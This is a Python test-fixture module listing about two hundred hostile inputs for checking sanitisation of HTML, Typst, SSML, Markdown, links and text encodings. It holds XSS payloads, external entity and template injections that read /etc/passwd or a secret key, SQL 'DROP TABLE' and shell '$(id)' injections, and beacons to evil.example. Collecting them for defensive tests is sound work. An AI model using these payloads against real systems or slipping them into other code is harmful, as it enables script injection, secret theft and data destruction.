"""What somebody with ill intent, or a careless paste, may put where text is expected: about two hundred of them.

Each is of our own making and does nothing to the machine that a test runs on; where one would ask somebody for
something, it asks ``evil.example``. ``MARKUP`` is meant to be read as HTML, ``PLAIN`` to break out of any other form,
``LINKS`` are addresses, ``LETTERS`` are characters that some part cannot hold.
"""

from __future__ import annotations

_EVENTS = ("onload", "onerror", "onclick", "onmouseover", "onfocus", "onbegin", "ontoggle", "onanimationstart")
_LOADERS = ("iframe", "embed", "object", "frame", "audio", "video", "source", "track", "input", "applet", "portal")
_SWALLOWING = ("textarea", "title", "noscript", "noembed", "xmp", "plaintext", "template", "select", "style", "script")

MARKUP: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0b>alert(1)</script>",
    "<script/x>alert(1)</script/x>",
    '<script type="application/ld+json">{"@type":"Thing"}</script>',
    '"><script>alert(1)</script>',
    "'><svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></table></mtext></math>',
    '<math href="javascript:alert(1)">x</math>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(//evil.example/x)">styled</p>',
    '<p style="position:fixed;inset:0">over everything</p>',
    '<div style="width:expression(alert(1))">old</div>',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    '<base href="//evil.example/">',
    '<form action="//evil.example/"><input name="a"><button>Send</button></form>',
    '<button formaction="javascript:alert(1)">press</button>',
    '<isindex action="javascript:alert(1)">',
    '<marquee onstart="alert(1)">moving</marquee>',
    '<details open ontoggle="alert(1)">opened</details>',
    '<a href="https://ok.example/" target="_blank" ping="//evil.example/">pinged</a>',
    '<a href="https://ok.example/" onclick="alert(1)" style="color:red" id="title" class="finding">clicked</a>',
    '<img src="x" onerror="alert(1)">',
    "<img src=x:x onerror\x0c=alert(1)//>",
    '<img src="https://evil.example/pixel.gif" width="1" height="1">',
    '<img """><script>alert(1)</script>">',
    "<image href=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<html manifest='//evil.example/x'>",
    "<table background='javascript:alert(1)'><tr><td>cell</td></tr></table>",
    '<p id="title">same id</p>',
    '<p class="caveats" role="note" aria-label="none">dressed up</p>',
    '<p aria-hidden="true" hidden>hidden</p>',
    '<span lang="en" onmouseover="alert(1)">hovered</span>',
    '<span dir="rtl">turned',
    '<abbr title="&quot; onmouseover=&quot;alert(1)">WHO</abbr>',
    '<abbr title="<script>alert(1)</script>">MS</abbr>',
    "<b><i><b><i><b>unclosed",
    "</p></div></article></section></main></body></html>",
    "</li></ul></dd></dl></td></tr></table>",
    "<p><ul><li><p><ol><li>",
    "<ul>" * 30,
    "<b>" * 40,
    "<!-- a comment that does not end",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<?php echo 1; ?><?xml version='1.0'?>",
    "<%= 1 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;svg/onload=alert(1)&#x3e;",
    "&amp;lt;b&amp;gt;",
    "&nbsp;&zwj;&shy;&ensp;",
    "&#0;&#x110000;&#xd800;&#xfffe;&notanentity;",
    '<a id="1" linktype="page" href="javascript:alert(1)">page</a>',
    '<a linktype="page" id="999999">a page that is not there</a>',
    '<a linktype="document" id="-1">no document</a>',
    '<a linktype="unknown" id="1">of no kind</a>',
    '<embed embedtype="image" id="999999" alt="<script>" format="left"/>',
    '<embed embedtype="media" url="https://evil.example/"/>',
    '<research-update src="//evil.example/"></research-update>',
    "<x-custom onclick=alert(1)>custom</x-custom>",
    "<h1>the highest heading</h1>",
    "<h2>a heading that is too high</h2><h6>one that is too low</h6>",
    "<pre><code>code</code></pre><blockquote>quote</blockquote><hr>",
    *(f'<p {event}="alert(1)">{event}</p>' for event in _EVENTS),
    *(f"<{name} src='//evil.example/x' data='//evil.example/x'>" for name in _LOADERS),
    *(f"<{name}><img src=x onerror=alert(1)></{name}>" for name in _SWALLOWING),
)

PLAIN: tuple[str, ...] = (
    # Templates
    "{{ 7|add:7 }}",
    "{% load static %}{% debug %}",
    "{{ settings.SECRET_KEY }}",
    "${7*7}",
    "#{7*7}",
    "%(title)s %s %d %n",
    "{0.__class__}",
    "{title!r}",
    # Typst
    '#panic("stop")',
    '#read("/etc/passwd")',
    '#include "x.typ"',
    '#import "@preview/x:1.0.0": *',
    "#eval(sys.inputs.data)",
    "#set page(width: 1pt)",
    "$ x^2 $ *bold* _slanted_ `raw`",
    "= A heading\n== Another",
    "@reference <label>",
    '#link("javascript:alert(1)")[press]',
    "\\u{202e} \\ // a comment /* another",
    "])}#pagebreak()",
    # SSML and XML
    '</s></p></speak><speak><audio src="https://evil.example/x.mp3"/>',
    '<audio src="https://evil.example/x.mp3"/>',
    '<break time="9999s"/>',
    '<voice name="x">',
    '<mark name="x"/>',
    '<say-as interpret-as="telephone">',
    "]]>",
    "<![CDATA[",
    "<?xml-stylesheet href='//evil.example/x.xsl'?>",
    "<!ENTITY x 'y'>",
    "&x; &amp; &#65; &unknown;",
    "--> <!--",
    # Markdown
    "[press](javascript:alert(1))",
    "![pixel](https://evil.example/x.gif)",
    "[a]: https://evil.example/\n\n[a]",
    "<https://evil.example/>",
    "<javascript:alert(1)>",
    "# A heading",
    "Also a heading\n===",
    "---",
    "***",
    "- a list\n- of two",
    "1. one",
    "1) one",
    "> quoted",
    "```\nfenced\n```",
    "~~~",
    "    indented",
    "| a | b |\n|---|---|",
    "**bold** __bold__ *it* _it_ ~~gone~~ `code`",
    "\\* \\[ \\\\",
    "a  \nb",
    "[^1] [x] - [ ] todo",
    "<b>bold</b> & <i>",
    "&copy; &lt;script&gt;",
    # JSON, YAML, JavaScript
    '"},"@type":"Thing","x":{"y":"',
    '", "caveats": [], "x": "',
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "\\u003cscript\\u003e \\x3c \\074",
    "\u2028alert(1)\u2029",
    "'; alert(1); //",
    "`${alert(1)}`",
    "key: value\n- !!python/object:x",
    "--- !ruby/object\n...",
    "*anchor &anchor",
    "null",
    "true",
    "NaN",
    "__proto__",
    "constructor",
    # Databases, shells, spreadsheets, mail
    "' OR 1=1 --",
    '"; DROP TABLE research;',
    "$(id) `id` ; id | id",
    "=HYPERLINK(A;B)",
    "@SUM(A:A)",
    "../../../../etc/passwd",
    "C:\\Windows\\x",
    "Subject: x\r\nBcc: y@evil.example",
    "file:///etc/passwd",
    # PO
    '"\nmsgid ""\nmsgstr "',
    "#, fuzzy\n#~ msgid",
    # Long
    "a" * 3000,
    "word " * 300,
)

LINKS: tuple[str, ...] = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "javascript://https://ok.example/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://ok.example/x",
    "//evil.example/",
    "\\\\evil.example\\x",
    "/admin/logout/",
    "ftp://evil.example/",
    "https://",
    "https://[",
    'https://ok.example/"onmouseover=alert(1) x="',
    "https://ok.example/'><script>alert(1)</script>",
    "https://ok.example/a b(c)<d>",
    "https://ok.example/" + "a" * 3000,
    "mailto:x@ok.example?body=<script>",
    "#title",
    "",
)

LETTERS: tuple[str, ...] = (
    "bell\x07 back\x08 escape\x1b[31m",
    "unit\x1f delete\x7f next\x85",
    "iso\u2066late",
    "em\u202abed",
    "pop\u202c\u2069ped",
    "zero\u200bwidth\u200djoin",
    "mark\ufeff",
    "com\u0300\u0301\u0302\u0303\u0304bined",
    "soft\u00adhyphen",
    "tag\U000e0041",
)

#: What turns the order of letters round, for readers and for what comes after.
TURNING: tuple[str, ...] = ("right\u202eoverride", "left\u202doverride")

#: Links to pages and documents by what is no number.
LOST: tuple[str, ...] = (
    '<a linktype="page" id="x; DROP TABLE">no number</a>',
    '<a linktype="document">no id</a>',
    '<a linktype="page" id="²">no digit</a>',
    f'<a linktype="page" id="{"9" * 30}">too large</a>',
)

#: More elements inside of each other than a parser that calls itself can stand.
TOO_DEEP: tuple[str, ...] = ("<b>" * 300, "<ul><li>" * 2000, "<p>" + "<i>x" * 400)

#: What no database and no encoding can hold.
UNHOLDABLE: tuple[str, ...] = ("nul\x00l", "half\ud800", "other half\udc00")

ALL = (*MARKUP, *PLAIN, *LINKS, *LETTERS)


def word(number: int) -> str:
    """Return a word in letters alone that stands before the payload of this number: figures would be compared."""
    return "before" + "".join(chr(ord("a") + int(figure)) for figure in str(number))
